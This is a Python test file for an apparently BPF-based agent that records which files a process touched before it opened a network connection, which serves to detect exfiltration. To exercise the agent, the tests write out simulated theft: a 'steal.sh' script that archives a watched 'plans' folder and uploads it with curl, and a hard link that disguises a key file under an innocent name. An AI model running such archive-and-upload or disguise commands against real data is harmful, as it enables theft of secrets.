"""What a sender's lineage did before it connected: told by exeat-agent, written into the records. Needs root, BPF and fanotify;
skipped otherwise."""
import os
import subprocess
import time

import pytest

import harness
from test_agent_bpf import Agent, cookie, listen

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root")

# A client: connects, waits until its input ends.
CONNECT = """import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
sys.stdin.read()
"""


def start(tmp_path, *options):
    agent = Agent(tmp_path, *options)
    sentences = [s for s in agent.hello["capabilities"]["degraded"] if s.startswith("history:")]
    if sentences:
        agent.end()
        pytest.skip("; ".join(sentences))
    return agent


@pytest.fixture
def watched(tmp_path):
    folder = tmp_path / "watched"
    folder.mkdir()
    (folder / "plans.txt").write_text("secret\n" * 1000)
    (folder / "more").mkdir()
    (folder / "more" / "deep.txt").write_text("secret\n")
    return folder


@pytest.fixture
def agent(tmp_path, watched):
    a = start(tmp_path, "--watch", f"plans={watched}/**")
    time.sleep(0.3)  # the first walk
    yield a
    a.end()


def run_session(agent, tmp_path, script, asks=1):
    """A shell that leads a session of its own starts one that runs `script`, in which $CONNECT connects to us. The answer."""
    listener = listen()
    port = listener.getsockname()[1]
    agent.greet("127.0.0.1:%d" % port)
    (tmp_path / "connect.py").write_text(CONNECT)
    (tmp_path / "script.sh").write_text(f"CONNECT='/usr/bin/python3 {tmp_path}/connect.py {port}'\n{script}\n")
    shell = subprocess.Popen(["/bin/sh", "-c", f"/bin/sh {tmp_path}/script.sh; true"], stdin=subprocess.PIPE,
                             start_new_session=True)
    accepted = listener.accept()[0]
    for _ in range(asks):
        answer = agent.ask(accepted, **cookie(accepted))
    shell.communicate()
    return answer


def seen(answer):
    assert answer["confidence"] in ("exact", "stale"), answer
    return {row["kind"]: row for row in answer["history"]["seen"]}


def test_a_scripts_archive_and_its_connection(agent, watched, tmp_path):
    archive = tmp_path / "x.tgz"
    answer = run_session(agent, tmp_path, f"tar czf {archive} -C {watched} .; sleep 1; $CONNECT")
    rows = seen(answer)
    access, written, archiver = rows["sensitive_access"], rows["archive_written"], rows["exec_archiver"]
    assert (access["class"], access["name"], access["count"]) == ("plans", "tar", 2)
    assert access["path"].startswith(str(watched))
    assert (written["class"], written["path"]) == ("gzip", str(archive))
    assert written["name"] in ("tar", "gzip", "sh") and written["bytes"] == os.stat(archive).st_size
    assert archiver["class"] in ("tar", "gzip") and 1 <= archiver["last_s"] < 20
    assert written["pid"] != answer["sender"]["pid"]


def test_another_sessions_archive_is_not_its_own(agent, watched, tmp_path):
    subprocess.run(["tar", "czf", tmp_path / "x.tgz", "-C", watched, "."], check=True, start_new_session=True)
    assert not seen(run_session(agent, tmp_path, "$CONNECT"))


def test_the_record_names_it(make_proxy, http, name, watched, tmp_path):
    """tar of a watched folder, then curl of the result through the proxy."""
    archive, host = tmp_path / "out.tar.xz", name()
    with make_proxy("history", agent_options=["--watch", f"plans={watched}/**"]) as proxy:
        if any("history:" in line for line in proxy.agent.log.splitlines()):
            pytest.skip(proxy.agent.log)
        time.sleep(0.3)
        script = (f"tar cJf {archive} -C {watched} .\nsleep 1\n"
                  f"curl -s -o /dev/null -x http://127.0.0.1:{proxy.port} --data-binary @{archive} "
                  f"http://{host}:{http.port}/upload\n")
        (tmp_path / "steal.sh").write_text(script)
        subprocess.run(["/bin/sh", "-c", f"/bin/sh {tmp_path}/steal.sh; true"], start_new_session=True, check=True)
        history = proxy.exchange(host).get("unmapped.sender.history")
        rows = {row["kind"]: row for row in history["seen"]}
        assert rows["sensitive_access"]["class"] == "plans" and rows["sensitive_access"]["name"] == "tar"
        assert rows["archive_written"]["path"] == str(archive) and rows["archive_written"]["class"] == "xz"
        assert 1 <= rows["archive_written"]["last_s"] < 30 and rows["archive_written"]["bytes"] > 0
        assert rows["exec_archiver"]["pid"] > 0 and history["losses"] == {"events": 0, "files": 0, "forgotten": 0}


def test_rights_are_given_up(tmp_path, watched):
    """As another user with two capabilities left: files are still seen, new folders too."""
    for parent in [tmp_path, *list(tmp_path.parents)[:3]]:
        os.chmod(parent, os.stat(parent).st_mode | 0o011)
    agent = start(tmp_path, "--user", "nobody", "--watch", f"plans={watched}/**")
    time.sleep(0.3)
    script = (f"mkdir -p {watched}/new/er; echo x > {watched}/new/er/file; ls -R {watched} >/dev/null; sleep 0.2\n"
              f"tar cf {tmp_path}/y.tar -C {watched}/new .; $CONNECT")
    rows = seen(run_session(agent, tmp_path, script))
    assert rows["sensitive_access"]["path"] == f"{watched}/new/er/file" and rows["sensitive_access"]["name"] == "tar"
    assert rows["archive_written"]["class"] == "tar"
    agent.end()


def test_another_name_is_no_disguise(tmp_path):
    """A hard link to a watched file that matches by name is still that file."""
    key = tmp_path / "id_x"
    key.write_text("key")
    other = start(tmp_path, "--watch", f"key={key}")
    time.sleep(0.3)
    rows = seen(run_session(other, tmp_path, f"mkdir {tmp_path}/a; ln {key} {tmp_path}/a/innocent; cat {tmp_path}/a/innocent; $CONNECT"))
    assert rows["sensitive_access"]["class"] == "moved" and rows["sensitive_access"]["path"].endswith("innocent")
    other.end()


def test_told_to_go_without(tmp_path):
    agent = Agent(tmp_path, "--no-history")
    assert any("told to go without" in s for s in agent.hello["capabilities"]["degraded"])
    assert "history" not in run_session(agent, tmp_path, "$CONNECT")
    agent.end()
